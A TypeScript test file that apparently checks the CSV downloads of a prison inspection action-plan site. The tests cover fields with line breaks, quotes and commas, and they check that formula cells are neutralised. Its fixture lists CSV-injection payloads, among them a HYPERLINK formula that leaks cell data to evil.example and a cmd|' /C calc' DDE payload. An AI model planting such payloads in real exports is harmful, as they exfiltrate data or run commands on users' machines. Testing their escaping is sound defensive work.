// Every CSV download, read back as Python's csv module reads it (a bare line
// break outside quotes ends a record), gives exactly the dataset's rows, once
// the quote that neutralises a formula is taken off as docs/open-data.md says.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralised, original } from '../../src/dataset/csv-formula.ts';
import { actionsCsv, ACTION_COLUMNS, itemsCsv, ITEM_COLUMNS, plansCsv, PLAN_COLUMNS } from '../../src/dataset/csv.ts';
import type { Plan } from '../../src/model/schema.ts';
import { RESULT_COLUMNS, resultsCsv, type ResultRow } from '../../src/search/results-csv.ts';
import { buildDataset } from '../../src/dataset/build.ts';
import { readFile } from '../../src/ingest/read.ts';
import { dataset } from '../support/seeds.ts';
import { readCsvsStrictly, readCsvStrictly } from '../support/strict-csv.ts';

const SITE = 'https://plans.example.org/';
const REAL_PLANS = 'tests/fixtures/real-plans';
const actionsOf = (plans: Plan[]) =>
  plans.flatMap((p) => p.items.flatMap((i) => i.actions.map((a, n) => ({ item: i, action: a, n }))));

/** Every field that can break a record: CR, LF, CRLF, quotes, commas, leading spaces, a formula sign. */
const NASTY = [
  'first line\nsecond',
  'cr\ralone',
  'crlf\r\nend',
  'a "quoted" word',
  'one, two',
  '  leading space',
  '=1+1',
  '\n',
  '"',
  '',
];

function hostile(plans: Plan[]): Plan[] {
  let n = 0;
  const next = () => NASTY[n++ % NASTY.length]!;
  return structuredClone(plans).map((p) => ({
    ...p,
    establishmentName: `${p.establishmentName}, "${next()}"`,
    notes: [`Target dates may move; see the plan. ${next()}`, next()],
    datesAsWritten: { inspection: `3-4th October; ${next()}`, reportPublished: next(), planSubmitted: null },
    inspectionParts: [
      { start: '2021-10-03', end: '2021-10-04' },
      { start: '2021-10-14', end: '2021-10-18' },
    ],
    signOff: `Signed: ${next()}\nDate: 1 March 2022`,
    items: p.items.map((i) => ({
      ...i,
      text: `${i.text}${next()}`,
      section: next(),
      actions: i.actions.map((a) => ({
        ...a,
        owner: `${a.owner ?? ''}${next()}`,
        text: a.text === null ? null : `${a.text}${next()}`,
      })),
    })),
  }));
}

/** The records of a file, each cell as the reader docs/open-data.md describes gets it back (one leading quote removed). */
function read(text: string, header: string[], records = readCsvStrictly(text)): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [head, ...rows] = records;
  expect(head).toEqual(header);
  for (const row of rows) expect(row).toHaveLength(header.length);
  // No cell a spreadsheet would run as a formula.
  for (const row of rows)
    for (const cell of row) expect(neutralised(cell), cell).toBe(cell.startsWith("'") ? `'${cell}` : cell);
  return rows.map((r) => r.map(original));
}

// Plans that print notes, an inspection in two parts and a sign-off (tests/fixtures/real-plans).
const printed = buildDataset(
  await Promise.all(
    ['r1-kestrel-parts.txt', 'r2-linnet-notes.txt'].map(async (f) => (await readFile(REAL_PLANS, f)).parsed),
  ),
).plans;

describe.each([
  ['the five plans', dataset.plans],
  ['the five plans with line breaks, quotes and commas in every text', hostile(dataset.plans)],
])('CSV downloads of %s', (_, plans) => {
  const items = plans.flatMap((p) => p.items);

  it('items.csv: one record per item, every field exactly', () => {
    const rows = read(
      itemsCsv(plans, SITE),
      ITEM_COLUMNS.map((c) => c.name),
    );
    expect(rows).toHaveLength(items.length);
    const col = (name: string) => ITEM_COLUMNS.findIndex((c) => c.name === name);
    expect(rows.map((r) => r[col('key')])).toEqual(items.map((i) => i.key));
    expect(rows.map((r) => r[col('text')])).toEqual(items.map((i) => i.text));
    expect(rows.map((r) => r[col('section')])).toEqual(items.map((i) => i.section ?? ''));
    expect(rows.map((r) => r[col('status')])).toEqual(items.map((i) => i.status ?? ''));
    expect(rows.map((r) => r[col('establishment')])).toEqual(
      plans.flatMap((p) => p.items.map(() => p.establishmentName)),
    );
    expect(rows.map((r) => r[col('url')])).toEqual(items.map((i) => `${SITE}${i.url.slice(1)}`));
  });

  it('actions.csv: one record per action, texts with their line breaks', () => {
    const rows = read(
      actionsCsv(plans),
      ACTION_COLUMNS.map((c) => c.name),
    );
    const actions = actionsOf(plans);
    expect(rows).toEqual(
      actions.map(({ item, action, n }) => [
        item.key,
        String(n + 1),
        action.owner ?? '',
        action.target ?? '',
        action.due ?? '',
        action.text ?? '',
      ]),
    );
    // The test means something only if some texts hold line breaks.
    expect(rows.filter((r) => r[5]!.includes('\n')).length).toBeGreaterThan(10);
  });

  it("plans.csv and each plan's own items and actions", () => {
    const rows = read(
      plansCsv(plans, SITE),
      PLAN_COLUMNS.map((c) => c.name),
    );
    expect(rows.map((r) => [r[0], r[1], r[4]])).toEqual(
      plans.map((p) => [p.id, p.establishmentName, String(p.items.length)]),
    );
    // What the plan prints outside its items, as its JSON has it: notes a paragraph a line, parts as intervals.
    const col = (name: string) => PLAN_COLUMNS.findIndex((c) => c.name === name);
    expect(
      rows.map((r) =>
        [
          'notes',
          'inspection_as_written',
          'report_published_as_written',
          'plan_submitted_as_written',
          'inspection_parts',
          'sign_off',
        ].map((name) => r[col(name)]),
      ),
    ).toEqual(
      plans.map((p) => [
        p.notes.join('\n'),
        p.datesAsWritten.inspection ?? '',
        p.datesAsWritten.reportPublished ?? '',
        p.datesAsWritten.planSubmitted ?? '',
        p.inspectionParts.map((x) => `${x.start}/${x.end}`).join('; '),
        p.signOff ?? '',
      ]),
    );
    const texts = plans.flatMap((plan) => [itemsCsv([plan], SITE), actionsCsv([plan])]);
    const records = readCsvsStrictly(texts);
    plans.forEach((plan, n) => {
      const items = read(
        texts[2 * n]!,
        ITEM_COLUMNS.map((c) => c.name),
        records[2 * n],
      );
      expect(items.map((r) => r[ITEM_COLUMNS.findIndex((c) => c.name === 'text')])).toEqual(
        plan.items.map((i) => i.text),
      );
      const actions = read(
        texts[2 * n + 1]!,
        ACTION_COLUMNS.map((c) => c.name),
        records[2 * n + 1],
      );
      expect(actions.map((r) => r[5])).toEqual(actionsOf([plan]).map(({ action }) => action.text ?? ''));
    });
  });
});

describe('plans.csv of plans that print notes, an inspection in two parts and a sign-off', () => {
  it('gives them as printed, notes a paragraph a line, parts as first/last day intervals', () => {
    const rows = read(
      plansCsv(printed, SITE),
      PLAN_COLUMNS.map((c) => c.name),
    );
    const names = PLAN_COLUMNS.map((c) => c.name);
    expect(rows.map((r) => Object.fromEntries(names.slice(-6).map((n) => [n, r[names.indexOf(n)]])))).toEqual([
      {
        notes: '',
        inspection_as_written: '30 November — 2 December and 11–15 January 2021',
        report_published_as_written: '09/02/2021',
        plan_submitted_as_written: '1st of March 2021',
        inspection_parts: '2020-11-30/2020-12-02; 2021-01-11/2021-01-15',
        sign_off: 'Signed off by Governor, HMP Kestrel Down\nDate 1 March 2021',
      },
      {
        notes:
          'Please note that the timescales below assume visits resume in full by the summer.\nAn update on each action will be sent to the Prison Group Director every quarter.',
        inspection_as_written: '3rd–14th May 2021',
        report_published_as_written: '2 June 2021',
        plan_submitted_as_written: '14 June 2021',
        inspection_parts: '',
        sign_off: '',
      },
    ]);
  });
});

describe("the search page's export", () => {
  it('writes every result as one record, whatever its fields hold', () => {
    const rows: ResultRow[] = NASTY.map((v, i) => ({
      kind: 'Recommendation',
      number: `5.${i}`,
      'prison and year': `HMP Ford, 2016 ${v}`,
      status: v,
      theme: `Health; ${v}`,
      url: `https://plans.example.org/prisons/ford/2016/5-${i}/`,
    }));
    const text = resultsCsv(rows);
    expect(text.includes('\r\n')).toBe(true);
    expect(read(text, [...RESULT_COLUMNS])).toEqual(rows.map((r) => RESULT_COLUMNS.map((c) => r[c])));
  });
});

/** Cells a spreadsheet would run, and what each must be written as. */
const FORMULAS: [string, string][] = [
  ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'],
  ['+SUM(1,2)', "'+SUM(1,2)"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['  =1+1', "'  =1+1"],
  ['\u3000=1+1', "'\u3000=1+1"],
  ['\u00a0+1', "'\u00a0+1"],
  ['\u200b@x', "'\u200b@x"],
  ['\uff1d1+1', "'\uff1d1+1"],
  ["'quoted'", "''quoted'"],
  // Values that only look like formulas: a lone sign and plain numbers are never run.
  ['-', '-'],
  ['-5', '-5'],
  ['+3.5', '+3.5'],
  ['1+1', '1+1'],
  ['e=mc2', 'e=mc2'],
  ['', ''],
];

describe('cells that could start a formula', () => {
  it('are written with a quote in front, and quoted, as OWASP recommends', () => {
    expect(FORMULAS.map(([cell]) => neutralised(cell))).toEqual(FORMULAS.map(([, out]) => out));
  });

  const [plan] = structuredClone(dataset.plans);
  const items = FORMULAS.map(([cell], n) => ({
    ...plan!.items[0]!,
    key: `x/${n}`,
    text: cell,
    section: cell,
    actions: [{ owner: cell, target: cell, due: null, text: cell }],
  }));
  const plans = [{ ...plan!, establishmentName: '=1+1', establishment: '@HMP x', items }];
  const csvs = [itemsCsv(plans, SITE), actionsCsv(plans)];

  it('reach items.csv and actions.csv neutralised: Python and csv-parse read the quote, and taking it off gives the text', () => {
    const [pyItems, pyActions] = readCsvsStrictly(csvs);
    const col = (name: string) => ITEM_COLUMNS.findIndex((c) => c.name === name);
    for (const records of [pyItems!, parse(csvs[0]!, { bom: true, relax_quotes: false }) as string[][]]) {
      expect(
        records
          .slice(1)
          .map((r) => [r[col('text')], r[col('section')], r[col('establishment')], r[col('establishment_as_written')]]),
      ).toEqual(FORMULAS.map(([, out]) => [out, out, "'=1+1", "'@HMP x"]));
    }
    for (const records of [pyActions!, parse(csvs[1]!, { bom: true }) as string[][]]) {
      expect(records.slice(1).map((r) => [r[2], r[3], r[5]])).toEqual(FORMULAS.map(([, out]) => [out, out, out]));
    }
    expect(
      read(
        csvs[0]!,
        ITEM_COLUMNS.map((c) => c.name),
        pyItems,
      ).map((r) => r[col('text')]),
    ).toEqual(FORMULAS.map(([cell]) => cell));
  });

  it('are quoted in the file, so that the quote is part of the cell', () => {
    expect(csvs[0]).toContain(',"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",');
    expect(csvs[1]).toContain(',"\'@SUM(A1)","\'@SUM(A1)",,"\'@SUM(A1)"');
    expect(csvs[1]).toContain(',-,-,,-');
  });

  it('in the search page’s export too', () => {
    const rows: ResultRow[] = FORMULAS.map(([cell]) => ({
      kind: 'Recommendation',
      number: '1',
      'prison and year': cell,
      status: cell,
      theme: cell,
      url: 'https://plans.example.org/',
    }));
    const records = readCsvStrictly(resultsCsv(rows)).slice(1);
    expect(records.map((r) => r[2])).toEqual(FORMULAS.map(([, out]) => out));
  });
});
